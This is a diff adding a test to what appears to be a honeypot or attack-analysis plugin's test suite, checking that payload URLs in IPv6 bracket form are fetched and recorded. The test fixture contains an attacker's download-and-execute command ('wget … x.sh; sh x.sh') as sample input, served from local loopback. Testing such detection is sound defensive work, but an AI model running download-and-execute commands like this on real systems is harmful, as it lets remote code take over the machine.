@@ -143,6 +143,24 @@ test('an exploit in an HTTP query string is read percent-decoded', async () => {
   assert.equal(out.findings[0].offset, undefined);
 });
 
+test('an IPv6 attacker: the URL in brackets, fetched from ::1', async () => {
+  const v6 = createServer((req, res) => res.end(SCRIPT));
+  await new Promise((resolve) => v6.listen(0, '::1', resolve));
+  try {
+    const url = `http://[::1]:${v6.address().port}/x.sh`;
+    const out = await runPlugin(
+      dir,
+      attackFixture({ received: `wget ${url}; sh x.sh`, remote: '::1', port: 23 }),
+      { allowPrivateNetwork: true },
+    );
+    assert.deepEqual(summary(out), [[url, 'ok', 'wget']]);
+    assert.equal(out.findings[0].meta.address, '::1');
+  } finally {
+    v6.closeAllConnections();
+    v6.close();
+  }
+});
+
 test('every attempt is recorded: 404, connection refused, timeout, a host that is not the attacker', async () => {
   const closed = createServer();
   await new Promise((resolve) => closed.listen(0, ATTACKER, resolve));
